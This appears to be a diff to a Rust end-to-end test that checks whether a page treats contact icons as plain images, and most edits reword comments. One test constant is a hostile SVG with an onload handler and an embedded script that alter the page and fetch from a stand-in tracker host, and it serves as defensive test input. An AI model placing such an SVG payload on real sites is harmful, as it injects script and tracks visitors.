@@ -1,4 +1,4 @@
-//! Icons: whatever a core names as one, nobody but the core is asked for it, and nothing in it runs.
+//! Icons: whatever a core names as one, only the core itself is asked for it, and no script in it runs.
 
 use anyhow::Result;
 use e2e::{ConsoleNoise, Setup, report};
@@ -9,10 +9,10 @@ use crate::hostile::offer::{PAGE, method, offer};
 use crate::hostile::proxy::Proxy;
 use crate::hostile::scripts::values;
 
-/// As many as the rules take, and as can be looked at in a moment.
+/// Icon URLs: as many that the rules accept as can be tested quickly.
 const COUNT: usize = 500;
 
-/// Would tell somebody who visits the page, or change it, if a browser took it for more than a picture.
+/// An SVG that reports the visitor to another server, and changes the page, if a browser runs its script.
 const SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
   width="32" height="32" onload="top.hijacked = 1">
   <script>top.hijacked = 2; fetch("http://tracker.example/script")</script>
@@ -27,7 +27,7 @@ const SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http:/
   <rect width="32" height="32"/>
 </svg>"#;
 
-/// Where the icons are, and all that is not one; nothing as long as one may still come.
+/// The URLs of the images and what else is in their places, or `null` as long as one may still load.
 const ICONS: &str = "
     const root = document.querySelector('id-contact-initiator').shadowRoot;
     const images = [...root.querySelectorAll('img')];
